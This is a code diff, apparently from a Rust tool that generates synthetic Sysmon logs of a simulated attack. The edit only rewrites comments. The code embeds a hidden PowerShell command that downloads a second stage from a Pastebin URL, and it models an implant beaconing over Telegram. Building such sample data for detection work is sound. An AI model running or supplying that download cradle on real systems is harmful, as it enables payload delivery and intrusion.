@@ -65,7 +65,7 @@ fn sysmon_log() -> Result<SampleFile, Error> {
     Ok(log.finish())
 }
 
-/// PowerShell fetches the second stage and starts it.
+/// Adds the events of the attack's second stage: PowerShell fetches it and starts it.
 fn second_stage(journal: &mut Journal) {
     let command = "powershell.exe -nop -w hidden -c iwr https://pastebin.com/raw/Xy12Ab34";
     journal.add(12, Event::process_create(POWERSHELL, command, WSCRIPT).of_process(9044));
@@ -84,7 +84,7 @@ fn second_stage(journal: &mut Journal) {
     journal.add(9, Event::dns_query("Pastebin.com", POWERSHELL).answered("0", PASTEBIN).of_process(9188));
 }
 
-/// The implant reports every half hour, and runs a command or two.
+/// Adds the events of the implant, which reports every half hour and runs a command or two.
 fn beacon(journal: &mut Journal) {
     for round in 0_u32..6 {
         let query = Event::dns_query("api.telegram.org", IMPLANT).answered("0", TELEGRAM).of_process(9120);
